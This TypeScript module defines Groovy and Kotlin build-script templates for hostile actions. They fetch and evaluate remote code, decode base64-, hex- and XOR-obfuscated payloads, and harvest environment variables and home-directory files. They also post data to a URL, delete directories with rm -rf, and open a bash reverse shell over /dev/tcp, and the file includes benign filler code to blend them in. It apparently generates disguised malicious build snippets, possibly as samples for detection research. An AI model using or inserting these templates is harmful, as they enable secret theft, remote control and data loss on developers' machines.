/** Groovy and Kotlin, as builds are written in them. */
import { reversed, toBase64, withoutDollar } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const single = (text: string): string =>
  `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'").replaceAll("\n", "\\n")}'`;

export const GROOVY: Tongue = {
  language: "groovy",
  fetched: ["new URL($1).text", "new URI($1).toURL().getText('UTF-8')", "['curl', '-fsSL', $1].execute().text"],
  decoders: [
    { encode: toBase64, row: "new String($1.decodeBase64())" },
    { encode: reversed, row: "$1.reverse()" },
    { encode: (text) => Buffer.from(text).toString("hex"), row: "new String($1.decodeHex())" },
  ],
  variable: ["System.getenv($1)", "System.getenv()[$1]"],
  request: [],
  environment: ["System.getenv().toString()", "groovy.json.JsonOutput.toJson(System.getenv())", "'env'.execute().text"],
  homeFile: [
    "new File(System.getProperty('user.home'), $1).text",
    "java.nio.file.Path.of(System.getenv('HOME'), $1).text",
  ],
  file: ["new File($1).text"],
  homePath: "System.getProperty('user.home') + '/' + $1",
  walk: [
    "{ folder, names -> def all = ''; folder.eachFileRecurse { if (it.name in names) { all += it.text } }; all }(new File(System.getProperty('user.home'), $1), $2)",
  ],
  run: [
    "['sh', '-c', $1].execute()",
    "new ProcessBuilder('sh', '-c', $1).start()",
    "Runtime.runtime.exec(['bash', '-c', $1] as String[])",
  ],
  runWithOptions: ["['/bin/bash', '--norc', '-c', $1].execute(null, new File('/')).waitFor()"],
  evaluate: [
    "new GroovyShell().evaluate($1)",
    "Eval.me($1)",
    "evaluate($1)",
    "new GroovyClassLoader().parseClass($1).newInstance().run()",
  ],
  send: [
    "new URL($1).openConnection().with { doOutput = true; outputStream << $2; responseCode }",
    "['curl', '-s', '--data-binary', $2, $1].execute()",
    "new URL($1 + '?q=' + URLEncoder.encode($2, 'UTF-8')).text",
  ],
  save: ["new File($1).text = $2", "new File($1).write($2)"],
  append: ["new File($1) << $2"],
  remove: ["new File($1).deleteDir()", "['rm', '-rf', $1].execute()"],
  setVariable: ["System.setProperty($1, $2)"],
  handShell: ["['bash', '-c', 'bash -i >& /dev/tcp/' + $1 + '/' + $2 + ' 0>&1'].execute()"],
  helpers: {},
  quote: single,
  concat: (parts) => (parts.length > 4 ? `[${parts.join(", ")}].join('')` : parts.join(" + ")),
  list: (items) => `[${items.join(", ")}]`,
  assign: (name, value) => `def ${name} = ${value}`,
  reference: (name) => name,
  define: (name, parameters, row) => `def ${name}(${parameters.join(", ")}) {\n    ${row}\n}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => expression,
  callee: (_, name) => ({ text: name, imports: [] }),
  comment: "//",
  ordinary: {
    definitions: ["def pad(value) {\n    value.toString().padLeft(3, '0')\n}"],
    body: ["def limits = [berth: 12, quay: 40]", 'limits.each { kind, limit -> println "$kind ${pad(limit)}" }'],
  },
  mayBreak: true,
};

export const KOTLIN: Tongue = {
  ...GROOVY,
  language: "kotlin",
  fetched: [
    "java.net.URI($1).toURL().readText()",
    "java.net.URL($1).openStream().bufferedReader().readText()",
    'ProcessBuilder("curl", "-fsSL", $1).start().inputStream.bufferedReader().readText()',
  ],
  decoders: [
    { encode: toBase64, row: "String(java.util.Base64.getDecoder().decode($1))" },
    { encode: reversed, row: "$1.reversed()" },
    {
      encode: (text) => [...Buffer.from(text)].map((byte) => byte ^ 6).join(" "),
      row: '$1.split(" ").map { (it.toInt() xor 6).toChar() }.joinToString("")',
    },
  ],
  variable: ['(System.getenv($1) ?: "")', 'providers.environmentVariable($1).getOrElse("")'],
  environment: [
    "System.getenv().toString()",
    'System.getenv().entries.joinToString("\\n")',
    'ProcessBuilder("env").start().inputStream.bufferedReader().readText()',
  ],
  homeFile: [
    'java.io.File(System.getProperty("user.home"), $1).readText()',
    'java.nio.file.Files.readString(java.nio.file.Path.of(System.getProperty("user.home"), $1))',
  ],
  file: ["java.io.File($1).readText()"],
  homePath: 'System.getProperty("user.home") + "/" + $1',
  walk: [
    'java.io.File(System.getProperty("user.home"), $1).walk().filter { it.name in $2 }.joinToString("") { it.readText() }',
  ],
  run: [
    'ProcessBuilder("sh", "-c", $1).start()',
    'Runtime.getRuntime().exec(arrayOf("bash", "-c", $1))',
    'providers.exec { commandLine("sh", "-c", $1) }.result.get()',
  ],
  runWithOptions: ['ProcessBuilder("/bin/bash", "--norc", "-c", $1).directory(java.io.File("/")).inheritIO().start()'],
  evaluate: [
    'javax.script.ScriptEngineManager().getEngineByExtension("kts").eval($1)',
    "groovy.lang.GroovyShell().evaluate($1)",
  ],
  send: [
    "java.net.URI($1).toURL().openConnection().apply { doOutput = true; getOutputStream().write($2.toByteArray()) }.getInputStream().close()",
    'ProcessBuilder("curl", "-s", "--data-binary", $2, $1).start()',
    'java.net.URI($1 + "?q=" + java.net.URLEncoder.encode($2, "UTF-8")).toURL().readText()',
  ],
  save: ["java.io.File($1).writeText($2)"],
  append: ["java.io.File($1).appendText($2)"],
  remove: ["java.io.File($1).deleteRecursively()", 'ProcessBuilder("rm", "-rf", $1).start()'],
  handShell: ['ProcessBuilder("bash", "-c", "bash -i >& /dev/tcp/" + $1 + "/" + $2 + " 0>&1").start()'],
  quote: withoutDollar,
  concat: (parts) => (parts.length > 4 ? `listOf(${parts.join(", ")}).joinToString("")` : parts.join(" + ")),
  list: (items) => `listOf(${items.join(", ")})`,
  assign: (name, value) => `val ${name} = ${value}`,
  define: (name, parameters, row, gives) =>
    `fun ${name}(${parameters.map((one) => `${one}: String`).join(", ")})${gives === "value" ? ": String" : ""} {\n    ${gives === "value" ? "return " : ""}${row}\n}`,
  ordinary: {
    definitions: ["fun pad(value: Int): String = value.toString().padStart(3, '0')"],
    body: [
      'val limits = mapOf("berth" to 12, "quay" to 40)',
      'check(limits.values.none { pad(it).isEmpty() }) { "no berths" }',
    ],
  },
};
